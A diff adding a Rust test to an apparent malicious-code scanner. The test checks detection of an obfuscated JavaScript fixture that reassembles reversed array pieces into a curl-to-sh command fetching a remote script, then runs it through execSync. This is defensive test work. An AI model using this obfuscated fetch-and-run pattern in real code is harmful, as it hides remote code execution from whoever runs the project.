@@ -4833,3 +4833,16 @@ fn round_28_fetched_code_run_by_groovy_and_build_scripts() {
         None
     );
 }
+
+/// Round 28: a command kept as pieces of an array, joined and reversed at
+/// run time, is read joined; an array of ordinary pieces reads as nothing.
+#[test]
+fn arrays_of_pieces_are_read_joined() {
+    let js = "const cp = require('child_process');\nconst seg = [\n  'hs | hs.t',\n  'ini/rezyl',\n  'ana/ppa.n',\n  'dc-aibohp',\n  'eldnub//:',\n  'sptth Ls-',\n  ' lruc'\n];\nconst k = seg.join('').split('').reverse().join('');\ncp['exec' + 'Sync'](k);\n";
+    assert_eq!(
+        severity_in("scripts/report.js", js, "remote-code-pipe"),
+        Some(Severity::High)
+    );
+    let plain = "const cls = [\n  'btn ',\n  'btn-primary ',\n  'rounded',\n].join('');\n";
+    assert!(scan_files([("scripts/ui.js", plain.as_bytes())], &Map::new()).is_empty());
+}
